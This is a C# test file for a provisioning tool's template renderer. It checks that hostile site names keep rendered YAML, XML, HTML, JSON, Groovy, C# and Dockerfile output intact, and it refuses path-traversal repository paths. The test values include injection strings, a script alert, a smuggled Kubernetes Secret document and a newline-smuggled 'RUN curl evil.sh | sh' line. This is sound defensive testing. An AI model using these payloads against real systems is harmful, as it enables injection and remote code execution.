using k8s;
using k8s.Models;
using Provisioner.Templates.Catalog;
using Provisioner.Templates.Rendering;
using Provisioner.Templates.Rendering.Encoding;
using Provisioner.Workflow.Integrations;
using Provisioner.Workflow.Model;

namespace Provisioner.Templates.Tests;

/// <summary>
/// Values from a request must never change the structure of a rendered file. The renderer must not
/// rely on upstream domain validation, so these feed hostile text straight into the site's names.
/// </summary>
public sealed class HostileValueTests
{
    private static readonly string[] HostileValues =
    [
        "evil\" : x\n- injected: true # {{ site.app_name }} </title><script>alert(1)</script> ]]> 'q'",
        "\"\nkind: Secret\n---\napiVersion: v1",
        "a: b",
        "#comment",
        "- item",
        "[x, {y: z}]",
        "&anchor *alias !!binary |",
        "true",
        "123",
        "null",
        "]]><![CDATA[x",
        "</description><evil attr=\"1\"/>",
        "{{ site.domain }}{% if true %}x{% endif %}",
        "tab\there\r\nnel\u0085ls\u2028end",
        "'single' \\ backslash \\\" mixed",
    ];

    private static readonly SiteIdentity Benign = new("benign.example.com", "benign-example-com", "benign", "sites/benign.example.com");

    public static TheoryData<string, string, int> StructuredFiles()
    {
        var data = new TheoryData<string, string, int>();
        foreach (var template in Samples.Library().Templates)
        {
            foreach (var file in template.Files.Where(f => f.Encoder is YamlEncoder or XmlEncoder or HtmlValueEncoder or JsonEncoder))
            {
                for (var i = 0; i < HostileValues.Length; i++)
                {
                    data.Add(template.Descriptor.Id, file.Label, i);
                }
            }
        }

        return data;
    }

    public static TheoryData<int> Values()
    {
        var data = new TheoryData<int>();
        for (var i = 0; i < HostileValues.Length; i++)
        {
            data.Add(i);
        }

        return data;
    }

    [Fact]
    public void The_repository_templates_have_yaml_xml_html_and_json_files_to_check()
    {
        var encoders = Samples.Library().Templates.SelectMany(t => t.Files).Select(f => f.Encoder.GetType()).ToHashSet();

        Assert.Superset(new HashSet<Type> { typeof(YamlEncoder), typeof(XmlEncoder), typeof(HtmlValueEncoder), typeof(JsonEncoder) }, encoders);
    }

    [Theory]
    [MemberData(nameof(StructuredFiles))]
    public void A_hostile_site_name_keeps_the_file_structure_and_round_trips(string templateId, string fileLabel, int valueIndex)
    {
        var hostile = HostileValues[valueIndex];
        var library = Samples.Library();
        var template = library.Find(templateId)!;
        var file = template.Files.Single(f => f.Label == fileLabel);

        var benign = Parse(file.Encoder, Render(library, template, file, Benign));
        var attacked = Parse(file.Encoder, Render(library, template, file, Hostile(hostile)));

        Assert.Equal(benign.Shape, attacked.Shape);
        Assert.Contains(attacked.Values, v => v.Contains(hostile, StringComparison.Ordinal));
    }

    [Theory]
    [MemberData(nameof(Values))]
    public void A_hostile_domain_stays_one_ingress_host(int valueIndex)
    {
        var hostile = HostileValues[valueIndex];
        var renderer = Samples.Renderer(Samples.Settings(clusterIssuer: "letsencrypt"));

        var benign = Structure.Yaml(renderer.RenderIngress(Samples.Request("static-site", AppType.Frontend, Benign)));
        var yaml = renderer.RenderIngress(Samples.Request("static-site", AppType.Frontend, Hostile(hostile)));

        Assert.Equal(benign.Shape, Structure.Yaml(yaml).Shape);
        var ingress = KubernetesYaml.Deserialize<V1Ingress>(yaml, strict: true);
        Assert.Equal(hostile, Assert.Single(ingress.Spec.Rules).Host);
        Assert.Equal(hostile, ingress.Metadata.Name);
        Assert.Equal([hostile], Assert.Single(ingress.Spec.Tls).Hosts);
        Assert.Equal(hostile + "-tls", ingress.Spec.Tls[0].SecretName);
    }

    [Theory]
    [MemberData(nameof(Values))]
    public void A_hostile_value_adds_no_line_to_groovy_or_csharp(int valueIndex)
    {
        var hostile = HostileValues[valueIndex];
        var library = Samples.Library();
        foreach (var template in library.Templates)
        {
            foreach (var file in template.Files.Where(f => f.Encoder is GroovyEncoder or CSharpEncoder))
            {
                var benign = Render(library, template, file, Benign);
                var attacked = Render(library, template, file, Hostile(hostile));

                Assert.Equal(benign.Split('\n').Length, attacked.Split('\n').Length);
            }
        }
    }

    [Fact]
    public void A_line_break_cannot_reach_a_dockerfile()
    {
        var renderer = Samples.Renderer();

        var error = Assert.Throws<PermanentIntegrationException>(() =>
            renderer.RenderSite(Samples.Request("static-site", AppType.Frontend, Hostile("x\nRUN curl evil.sh | sh"))));

        Assert.Contains("static-site/files/{{site.repository_path}}/Dockerfile", error.Message, StringComparison.Ordinal);
        Assert.Contains("site.domain", error.Message, StringComparison.Ordinal);
        Assert.DoesNotContain('\n', error.Message);
    }

    [Theory]
    [InlineData("sites/../../.github/workflows")]
    [InlineData("sites/a b")]
    [InlineData("/etc")]
    [InlineData("sites/shop.example.com/")]
    public void A_repository_path_that_leaves_the_sites_folder_is_refused(string repositoryPath)
    {
        var site = new SiteIdentity("shop.example.com", "shop-example-com", "sites", repositoryPath);

        var error = Assert.Throws<PermanentIntegrationException>(() =>
            Samples.Renderer().RenderSite(Samples.Request("static-site", AppType.Frontend, site)));

        Assert.Contains("static-site/files/", error.Message, StringComparison.Ordinal);
    }

    private static SiteIdentity Hostile(string value) => new(value, value, value, "sites/benign.example.com");

    private static string Render(TemplateLibrary library, LoadedTemplate template, TemplateFile file, SiteIdentity site) =>
        LiquidEngine.Render(
            file.Content,
            file.Label,
            file.Encoder,
            TemplateModel.For(Samples.Request(template.Descriptor.Id, template.Descriptor.AppType, site), template, library.Settings));

    private static (string Shape, List<string> Values) Parse(ValueEncoder encoder, string text) => encoder switch
    {
        YamlEncoder => Structure.Yaml(text),
        JsonEncoder => Structure.Json(text),
        _ => Structure.Xml(text),
    };
}
